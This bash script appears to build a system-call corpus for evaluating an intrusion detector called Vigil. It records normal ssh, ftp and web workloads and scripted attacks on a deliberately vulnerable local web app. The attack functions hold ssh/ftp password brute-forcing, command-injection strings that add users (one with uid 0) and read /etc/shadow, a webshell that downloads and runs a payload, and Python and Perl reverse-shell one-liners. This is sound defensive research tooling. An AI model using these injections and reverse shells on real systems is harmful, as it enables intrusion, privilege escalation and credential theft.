#!/bin/bash
# record.sh - rebuild the Vigil Linux system-call corpus from scratch.
#
#   sudo bash Benchmarks/linux-corpus/record.sh [OUTDIR]   # everything (~15-25 min)
#   PHASES="normal" bash record.sh                # only normal workloads
#   PHASES="attack" bash record.sh                # only attacks
#   PHASES=attack ATTACKS_ONLY=1 ATTACKS="webshell" bash record.sh   # redo one attack type
#   N_ATTACK=10 (default) instances per attack type
#
# Output (ADFA-LD layout, one process = one .trace = one line of x86_64
# syscall numbers separated by spaces):
#   OUTDIR/train/<name>.trace        ~40% of normal processes
#   OUTDIR/validation/<name>.trace   ~60% of normal processes
#   OUTDIR/attack/<case>/<name>.trace every process of one attack
# OUTDIR defaults to /var/tmp/vigil-linux-corpus. Raw strace output is kept in
# OUTDIR.raw/ (deleted unless KEEP_RAW=1). OUTDIR/corpus.json declares the numbering
# (linux-x86_64; docs/eval.md). Then: vigil eval OUTDIR
#
# This is an evaluation harness, not part of Vigil: it runs a deliberately
# vulnerable web application as root on 127.0.0.1 and attacks it. Run it only on
# a disposable machine (a VM), never on a host you care about.
#
# How: each server (sshd -D, vsftpd, forking python CGI web app) is started in
# the foreground under `strace -f -ff -o DIR/t`, driven by local clients
# (sshpass/ssh, curl, lftp), then stopped; batch jobs run under strace too.
# Every attack instance gets freshly started, traced servers so its case dir
# holds exactly the processes that handled it (plus the daemons' own listener
# processes, as in ADFA-LD). strace2trace.py turns names into numbers (from
# /usr/include/x86_64-linux-gnu/asm/unistd_64.h), drops processes with <10
# calls and splits normal traces train/validation by md5 of the file name.
#
# Needs root, Debian/Ubuntu x86_64. Installs: strace openssh-server sshpass
# vsftpd lftp curl sqlite3 git netcat-openbsd perl wget.
# Side effects, all undone at the end: user 'vigil' (test account), users
# evilN made by the adduser attacks, daemons on 127.0.0.1 ports 2222 (sshd),
# 2121 (vsftpd), 8080 (web app), 8081 (attacker file server), 4444+ (listener).
# Inputs are fixed (seeded) so reruns give the same workload; syscall
# sequences naturally vary a little (timing, signals).

set -u
R=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUT=${1:-/var/tmp/vigil-linux-corpus}
RAW=$OUT.raw
RUN=$OUT.run
PY=/usr/bin/python3
TUSER=vigil
TPASS='Vig1l-Test-2024'
SSH_PORT=2222 FTP_PORT=2121 WEB_PORT=8080 ATK_PORT=8081
PHASES=${PHASES:-"normal attack"}
N_ATTACK=${N_ATTACK:-10}
ATTACKS=${ATTACKS:-"hydra_ssh hydra_ftp adduser webshell reverse_shell"}
CONV="$PY $R/strace2trace.py"
log() { echo "[$(date +%T)] $*"; }

# ----------------------------------------------------------------- setup ----
install_deps() {
    local need=""
    for b in strace:strace sshd:openssh-server sshpass:sshpass vsftpd:vsftpd lftp:lftp \
             curl:curl sqlite3:sqlite3 git:git nc:netcat-openbsd perl:perl wget:wget; do
        command -v "${b%%:*}" >/dev/null 2>&1 || [ -x "/usr/sbin/${b%%:*}" ] || need="$need ${b##*:}"
    done
    if [ -n "$need" ]; then
        apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq $need
    fi
    # the package may have started system daemons; we use our own instances
    service ssh stop >/dev/null 2>&1; service vsftpd stop >/dev/null 2>&1
    true
}

setup() {
    rm -rf "$RUN"; mkdir -p "$RUN/data" "$RUN/attacker" /run/sshd /var/run/vsftpd/empty
    [ -f /etc/ssh/ssh_host_ed25519_key ] || ssh-keygen -A
    id $TUSER >/dev/null 2>&1 || useradd -m -s /bin/bash $TUSER
    echo "$TUSER:$TPASS" | chpasswd
    # user's home: documents, logs, a config file to edit
    local H=/home/$TUSER
    mkdir -p $H/docs $H/logs $H/work $H/upload
    $PY - "$H" <<'EOF'
import random, sys
random.seed(42); h = sys.argv[1]
words = "alpha beta gamma delta epsilon server backup disk network user cpu memory error warning ok".split()
for i in range(6):
    open("%s/docs/note%d.txt" % (h, i), "w").write("\n".join(" ".join(random.choice(words) for _ in range(8)) for _ in range(40 + 10 * i)) + "\n")
with open(h + "/logs/app.log", "w") as f:
    for i in range(3000):
        f.write("2024-05-%02d 12:%02d:%02d %s %s\n" % (1 + i % 28, i % 60, (i * 7) % 60, random.choice(["INFO", "WARN", "ERROR"]), random.choice(words)))
open(h + "/config.ini", "w").write("[main]\nname=vigil\nversion=1\nthreads=4\n")
open(h + "/docs/README", "w").write("Project notes\n")
EOF
    chown -R $TUSER:$TUSER $H
    # web app
    cp -r $R/webapp/www "$RUN/www"
    chown $TUSER "$RUN/www/cgi-bin"        # FTP user may publish CGI scripts (webshell vector)
    $PY - "$RUN/data" <<'EOF'
import random, sys
random.seed(99)
first = "alice bob carol dave erin frank grace heidi ivan judy mallory oscar peggy trent victor walter".split()
city = "berlin paris london madrid rome vienna oslo lisbon dublin prague".split()
with open(sys.argv[1] + "/records.txt", "w") as f:
    for i in range(500):
        f.write("%04d %s %s alpha%d %d\n" % (i, random.choice(first), random.choice(city), i % 7, random.randint(100, 9999)))
EOF
    # attacker's own file server (not traced: it is on the attacker's machine)
    cp $R/attack/stage2.sh $R/attack/payload.sh "$RUN/attacker/"
    # sshd config
    cat > "$RUN/sshd_config" <<EOF
Port $SSH_PORT
ListenAddress 127.0.0.1
HostKey /etc/ssh/ssh_host_ed25519_key
HostKey /etc/ssh/ssh_host_rsa_key
HostKey /etc/ssh/ssh_host_ecdsa_key
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
UsePAM yes
PermitRootLogin no
PidFile $RUN/sshd.pid
MaxStartups 100
MaxSessions 20
MaxAuthTries 6
PrintMotd no
Subsystem sftp /usr/lib/openssh/sftp-server
EOF
    cat > "$RUN/vsftpd.conf" <<EOF
listen=YES
listen_address=127.0.0.1
listen_port=$FTP_PORT
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=YES
local_umask=022
dirmessage_enable=NO
xferlog_enable=YES
vsftpd_log_file=$RUN/vsftpd.log
connect_from_port_20=NO
pasv_enable=YES
pasv_address=127.0.0.1
pasv_min_port=40000
pasv_max_port=40200
secure_chroot_dir=/var/run/vsftpd/empty
pam_service_name=vsftpd
seccomp_sandbox=NO
isolate=NO
isolate_network=NO
ssl_enable=NO
max_clients=200
max_per_ip=100
EOF
}

wait_port() { for _ in $(seq 100); do ss -ltn | grep -q "127.0.0.1:$1 " && return 0; sleep 0.1; done; log "port $1 not up"; return 1; }

# start_traced NAME DIR PORT cmd... : start a daemon in the foreground under strace
declare -A ST_PID SRV_PID
start_traced() {
    local name=$1 dir=$2 port=$3; shift 3
    rm -rf "$dir"; mkdir -p "$dir"
    strace -f -ff -o "$dir/t" "$@" >/dev/null 2>>"$RUN/strace.err" &
    ST_PID[$name]=$!
    wait_port "$port"
    SRV_PID[$name]=$(pgrep -P "${ST_PID[$name]}" | head -1)
}
stop_traced() {
    local name=$1 st=${ST_PID[$1]} srv=${SRV_PID[$1]}
    sleep 0.5
    [ -n "$srv" ] && kill -TERM "$srv" 2>/dev/null
    for _ in $(seq 60); do kill -0 "$st" 2>/dev/null || break; sleep 0.25; done
    # stragglers (e.g. a backgrounded payload): detach strace from them
    kill -0 "$st" 2>/dev/null && { log "detaching strace $st ($name)"; kill -INT "$st"; }
    wait "$st" 2>/dev/null
    unset "ST_PID[$name]" "SRV_PID[$name]"
}
start_sshd()  { start_traced sshd "$1" $SSH_PORT /usr/sbin/sshd -D -e -f "$RUN/sshd_config"; }
start_ftpd()  { start_traced ftpd "$1" $FTP_PORT /usr/sbin/vsftpd "$RUN/vsftpd.conf"; }
start_web()   { start_traced web "$1" $WEB_PORT env PYTHONWARNINGS=ignore VIGIL_DATA="$RUN/data" WEBLOG="$RUN/web.log" $PY $R/webapp/server.py $WEB_PORT "$RUN/www"; }
start_attacker_http() {
    (cd "$RUN/attacker" && exec $PY -m http.server $ATK_PORT --bind 127.0.0.1 >/dev/null 2>&1) &
    ATK_HTTP=$!; wait_port $ATK_PORT
}

SSHOPT=(-p $SSH_PORT -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
        -o PubkeyAuthentication=no -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1
        -o ConnectTimeout=20)
ssh_as() { local pw=$1; shift; sshpass -p "$pw" ssh "${SSHOPT[@]}" "$TUSER@127.0.0.1" "$@"; }
W="http://127.0.0.1:$WEB_PORT"
FTPU="ftp://127.0.0.1:$FTP_PORT"

# ------------------------------------------------------- normal workload ----
ssh_session() {   # ssh_session I : one admin login, commands vary with I
    local i=$1
    case $((i % 12)) in
    0) ssh_as "$TPASS" "ls -la ~; ps aux | head -n $((10 + i)); df -h; uptime" ;;
    1) ssh_as "$TPASS" "tail -n $((20 + i)) /var/log/dpkg.log; grep -c ' install ' /var/log/dpkg.log" ;;
    2) ssh_as "$TPASS" "mkdir -p work/proj$i && cp -r docs work/proj$i/ && tar czf work/proj$i.tgz -C work proj$i && gzip -t work/proj$i.tgz && ls -l work && rm -rf work/proj$i" ;;
    3) ssh_as "$TPASS" "python3 -c \"import json; print(json.dumps({'n': $i, 'sq': [x*x for x in range($i)]}))\"" ;;
    4) ssh_as "$TPASS" "sed -i 's/^version=.*/version=$i/' config.ini && cat config.ini && grep -n version config.ini" ;;
    5) ssh_as "$TPASS" "free -m; cat /proc/loadavg; who; id; hostname; uname -a" ;;
    6) ssh_as "$TPASS" "find /etc -maxdepth 1 -name '*.conf' | sort | head -n $((5 + i % 7)); du -sh docs; wc -l docs/*" ;;
    7) ssh_as "$TPASS" "grep -c ERROR logs/app.log; grep WARN logs/app.log | awk '{print \$4}' | sort | uniq -c | sort -rn | head -n 3" ;;
    8) printf 'cd docs\nls -l\nhead -n %d note%d.txt\ncd ..\ncat config.ini\nexit\n' $((3 + i % 5)) $((i % 6)) | ssh_as "$TPASS" -T ;;
    9) sshpass -p "$TPASS" scp -q -P $SSH_PORT -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
           -o PubkeyAuthentication=no "$RUN/data/records.txt" "$TUSER@127.0.0.1:upload/records_$i.txt" ;;
    10) printf 'ls\ncd docs\nget note%d.txt %s/sftp_%d.txt\nbye\n' $((i % 6)) "$RUN" $i | \
           sshpass -p "$TPASS" sftp -q -P $SSH_PORT -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
           -o LogLevel=ERROR -o PubkeyAuthentication=no "$TUSER@127.0.0.1" >/dev/null ;;
    11) ssh_as "$TPASS" "python3 -c 'import os,sys; print(sum(os.path.getsize(os.path.join(d,f)) for d,_,fs in os.walk(\"docs\") for f in fs))'; ls -t logs | head; date" ;;
    esac >/dev/null 2>>"$RUN/client.err"
}

web_request() {   # web_request I
    local i=$1
    local names=(alice bob carol dave erin frank grace heidi) words=(alpha berlin paris bob 0042 oslo delta alpha3 victor 77)
    local hosts=(localhost 127.0.0.1 ip6-localhost localhost.localdomain "$(hostname)")
    case $((i % 10)) in
    0) curl -s "$W/" ;;
    1) curl -s "$W/about.html"; curl -s "$W/static/style.css" ;;
    2) curl -s "$W/cgi-bin/guestbook.py" ;;
    3|7) curl -s -X POST --data-urlencode "name=${names[$((i % 8))]}" --data-urlencode "msg=visit number $i, all good" "$W/cgi-bin/guestbook.py" ;;
    4|8) curl -s -G --data-urlencode "q=${words[$((i % 10))]}" "$W/cgi-bin/search.py" ;;
    5) curl -s -G --data-urlencode "host=${hosts[$((i % 5))]}" "$W/cgi-bin/lookup.py" ;;
    6) curl -s -r 0-$((1000 + i * 37)) "$W/static/report.txt" ;;
    9) curl -s -o /dev/null "$W/missing$i.html"; curl -s -I "$W/" ;;
    esac >/dev/null 2>>"$RUN/client.err"
}

ftp_session() {   # ftp_session I
    local i=$1; local up="$RUN/ftp_up_$i.txt"
    seq $((i * 10)) $((i * 10 + 200)) > "$up"
    case $((i % 6)) in
    0) curl -s --user "$TUSER:$TPASS" "$FTPU/docs/" ;;
    1) curl -s --user "$TUSER:$TPASS" "$FTPU/docs/note$((i % 6)).txt" -o "$RUN/ftp_dl_$i.txt" ;;
    2) curl -s --user "$TUSER:$TPASS" -T "$up" "$FTPU/upload/" ;;
    3) lftp -u "$TUSER,$TPASS" -p $FTP_PORT -e "set ftp:ssl-allow no; set net:max-retries 1; cd docs; ls; get note$((i % 6)).txt -o $RUN/lftp_$i.txt; cd ../upload; put $up; ls; bye" 127.0.0.1 ;;
    4) lftp -u "$TUSER,$TPASS" -p $FTP_PORT -e "set ftp:ssl-allow no; set net:max-retries 1; mkdir -p upload/dir$i; cd upload/dir$i; put $up -o data.txt; ls -l; rm data.txt; cd ..; rmdir dir$i; bye" 127.0.0.1 ;;
    5) curl -s --user "$TUSER:$TPASS" "$FTPU/logs/app.log" -o "$RUN/ftp_log_$i.txt"; curl -s --user "$TUSER:$TPASS" -l "$FTPU/upload/" ;;
    esac >/dev/null 2>>"$RUN/client.err"
}

# record_runs KIND RUNS PER_RUN START SESSION DAEMON: RUNS traced server runs of PER_RUN
# client sessions each, numbered across runs, each run converted and split train/validation.
record_runs() {
    local kind=$1 runs=$2 per=$3 start=$4 session=$5 daemon=$6 b j
    log "normal: $kind"
    for b in $(seq 0 $((runs - 1))); do
        $start "$RAW/normal/${kind}_r$b"
        for j in $(seq 0 $((per - 1))); do $session $((b * per + j)); done
        stop_traced "$daemon"
        $CONV "$RAW/normal/${kind}_r$b" "$OUT" "${kind}_r$b" --split train,validation
    done
}

record_normal() {
    record_runs ssh 4 12 start_sshd ssh_session sshd     # 48 logins
    record_runs web 3 50 start_web web_request web       # 150 requests
    record_runs ftp 3 14 start_ftpd ftp_session ftpd     # 42 sessions
    log "normal: batch"
    # untraced web server so the batch jobs' curl has something to talk to
    (env VIGIL_DATA="$RUN/data" $PY $R/webapp/server.py $WEB_PORT "$RUN/www" >/dev/null 2>&1) & local websrv=$!
    wait_port $WEB_PORT
    for j in $(seq 0 19); do
        local d="$RAW/normal/batch_j$(printf %02d $j)"
        rm -rf "$d"; mkdir -p "$d"
        strace -f -ff -o "$d/t" env -i PATH=/usr/local/bin:/usr/bin:/bin HOME=/root /bin/bash $R/batch_job.sh $j "$RUN/batch" \
            >/dev/null 2>>"$RUN/batch.err"
        $CONV "$d" "$OUT" "batch_j$(printf %02d $j)" --split train,validation
    done
    kill $websrv; wait $websrv 2>/dev/null
}

# --------------------------------------------------------------- attacks ----
case_dir() { echo "$OUT/attack/$1"; }

attack_hydra_ssh() {   # N: 20-50 wrong passwords, 4 parallel tasks like hydra -t 4
    local n=$1 c=hydra_ssh_$1 raw="$RAW/attack/hydra_ssh_$1"
    start_sshd "$raw/sshd"
    local cnt=$((20 + (n * 7) % 31)) off=$((n * 23))
    sed -n "$((off % 150 + 1)),+$((cnt - 1))p" $R/attack/wordlist.txt | \
        xargs -P 4 -I{} sh -c 'p=$1; shift; sshpass -p "$p" ssh "$@" true; exit 0' _ {} "${SSHOPT[@]}" "$TUSER@127.0.0.1" >/dev/null 2>&1
    stop_traced sshd
    $CONV "$raw/sshd" "$(case_dir $c)" "sshd"
}

attack_hydra_ftp() {
    local n=$1 c=hydra_ftp_$1 raw="$RAW/attack/hydra_ftp_$1"
    start_ftpd "$raw/ftpd"
    local cnt=$((20 + (n * 11) % 31)) off=$((n * 17 + 5))
    sed -n "$((off % 150 + 1)),+$((cnt - 1))p" $R/attack/wordlist.txt | \
        xargs -P 4 -I{} sh -c 'curl -s --max-time 20 --user "$1" "$2"; exit 0' _ "$TUSER:{}" "$FTPU/" >/dev/null 2>&1
    stop_traced ftpd
    $CONV "$raw/ftpd" "$(case_dir $c)" "ftpd"
}

attack_adduser() {     # command injection in lookup.py creating a user
    local n=$1 c=adduser_$1 raw="$RAW/attack/adduser_$1" u=evil$1
    start_web "$raw/web"
    curl -s "$W/" >/dev/null                                    # recon
    curl -s -G --data-urlencode "host=localhost" "$W/cgi-bin/lookup.py" >/dev/null
    local inj
    case $((n % 4)) in
    0) inj="localhost; useradd -m -s /bin/bash $u; echo '$u:P@ss$n' | chpasswd; id $u" ;;
    1) inj="127.0.0.1 && adduser --disabled-password --gecos '' $u && echo '$u:hax0r$n' | chpasswd" ;;
    2) inj="x | useradd -m -G sudo -s /bin/bash $u; tail -n 2 /etc/passwd" ;;
    3) inj="localhost; /usr/sbin/useradd -o -u 0 -g 0 -M -s /bin/sh $u; echo $u:x$n | /usr/sbin/chpasswd; grep $u /etc/shadow" ;;
    esac
    curl -s -G --data-urlencode "host=$inj" "$W/cgi-bin/lookup.py" >/dev/null
    stop_traced web
    id $u >/dev/null 2>&1 && echo "  user $u created" || echo "  WARNING: $u not created"
    userdel -r -f $u >/dev/null 2>&1
    $CONV "$raw/web" "$(case_dir $c)" "web"
}

attack_webshell() {    # upload a CGI webshell over FTP, then drive it over HTTP
    local n=$1 c=webshell_$1 raw="$RAW/attack/webshell_$1" sh=img_$1.py
    start_ftpd "$raw/ftpd"; start_web "$raw/web"
    curl -s --user "$TUSER:$TPASS" -T $R/attack/webshell.py \
        -Q "-SITE CHMOD 755 $RUN/www/cgi-bin/$sh" "$FTPU/%2F${RUN#/}/www/cgi-bin/$sh" >/dev/null   # %2F = absolute path
    stop_traced ftpd
    local cmds=("id" "uname -a" "cat /etc/passwd" "ls -la /root" "ps aux"
                "wget -q -O /tmp/.x_payload.sh http://127.0.0.1:$ATK_PORT/payload.sh"
                "curl -s -o /tmp/.x_payload.sh http://127.0.0.1:$ATK_PORT/payload.sh"
                "chmod +x /tmp/.x_payload.sh" "/tmp/.x_payload.sh" "cat /etc/shadow" "netstat -an || ss -an")
    local k
    for k in 0 1 2 3 $((4 + n % 2)) $((5 + n % 2)) 7 8 $((9 + n % 2)); do
        curl -s -G --data-urlencode "c=${cmds[$k]}" "$W/cgi-bin/$sh" >>"$RUN/ws_$n.log"
    done
    grep -q payload-done "$RUN/ws_$n.log" && echo "  webshell $n ran commands + payload" || echo "  WARNING: webshell $n did not run"
    stop_traced web
    rm -f "$RUN/www/cgi-bin/$sh" /tmp/.x_payload.sh /tmp/.x_passwd /tmp/.cron_evil
    mkdir -p "$(case_dir $c)"
    $CONV "$raw/ftpd" "$(case_dir $c)" "ftpd"
    $CONV "$raw/web" "$(case_dir $c)" "web"
}

attack_reverse_shell() {   # injected python/perl connect-back running a remote /bin/sh -i
    local n=$1 c=reverse_shell_$1 raw="$RAW/attack/reverse_shell_$1" port=$((4444 + $1))
    local cmdf="$RUN/rs_cmds_$n.txt"
    cat > "$cmdf" <<EOF
id
uname -a
pwd; ls -la
cat /etc/passwd | tail -n $((3 + n))
curl -s -o /tmp/.s2.sh http://127.0.0.1:$ATK_PORT/stage2.sh
chmod +x /tmp/.s2.sh
/tmp/.s2.sh
rm -f /tmp/.s2.sh /tmp/.s2_info /tmp/.s2_loot.tgz
EOF
    $PY $R/attack/listener.py $port "$cmdf" "$RUN/rs_$n.log" & local lst=$!
    wait_port $port
    start_web "$raw/web"
    local inj
    if [ $((n % 2)) -eq 0 ]; then
        inj="localhost; nohup python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"127.0.0.1\",$port));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])' >/dev/null 2>&1 &"
    else
        inj="localhost; perl -e 'use Socket;\$i=\"127.0.0.1\";\$p=$port;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(\$p,inet_aton(\$i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};' >/dev/null 2>&1 &"
    fi
    curl -s --max-time 10 -G --data-urlencode "host=$inj" "$W/cgi-bin/lookup.py" >/dev/null
    wait $lst                                    # listener finishes the session
    sleep 1
    stop_traced web
    grep -q stage2-done "$RUN/rs_$n.log" 2>/dev/null && echo "  reverse shell $n ran stage2" || echo "  WARNING: reverse shell $n incomplete"
    $CONV "$raw/web" "$(case_dir $c)" "web"
}

record_attacks() {
    start_attacker_http
    local n t
    for n in $(seq 1 $N_ATTACK); do
        log "attacks instance $n"
        for t in $ATTACKS; do
            rm -rf "$(case_dir ${t}_$n)" "$RAW/attack/${t}_$n"
            attack_$t $n
        done
    done
    kill $ATK_HTTP 2>/dev/null; wait $ATK_HTTP 2>/dev/null
}

# --------------------------------------------------------------- summary ----
summary() {
    $PY "$R/summary.py" "$OUT"
}

cleanup() {
    for k in "${!ST_PID[@]}"; do stop_traced "$k"; done
    [ -n "${ATK_HTTP:-}" ] && kill "$ATK_HTTP" 2>/dev/null
    for n in $(seq 1 20); do id evil$n >/dev/null 2>&1 && userdel -r -f evil$n >/dev/null 2>&1; done
    id $TUSER >/dev/null 2>&1 && userdel -r -f $TUSER >/dev/null 2>&1
    rm -f /tmp/.x_payload.sh /tmp/.x_passwd /tmp/.cron_evil /tmp/.s2*
    rm -rf "$RUN"
    [ "${KEEP_RAW:-0}" = 1 ] || rm -rf "$RAW"
}

# ------------------------------------------------------------------ main ----
[ "${BASH_SOURCE[0]}" = "$0" ] || return 0     # sourced: functions only (for testing)
[ "$(id -u)" = 0 ] || { echo "run as root" >&2; exit 1; }
trap cleanup EXIT
install_deps
setup
for p in $PHASES; do
    case $p in
    normal) rm -rf "$OUT/train" "$OUT/validation" "$RAW/normal"; record_normal ;;
    attack) [ -z "${ATTACKS_ONLY:-}" ] && rm -rf "$OUT/attack" "$RAW/attack"; record_attacks ;;
    esac
done
# The numbers are Linux x86_64's: `vigil eval` then restarts n-grams at request
# boundaries (accept, epoll_wait, poll, select, ...), as the kernel does live.
echo '{"syscalls": "linux-x86_64"}' > "$OUT/corpus.json"
log "done"
summary
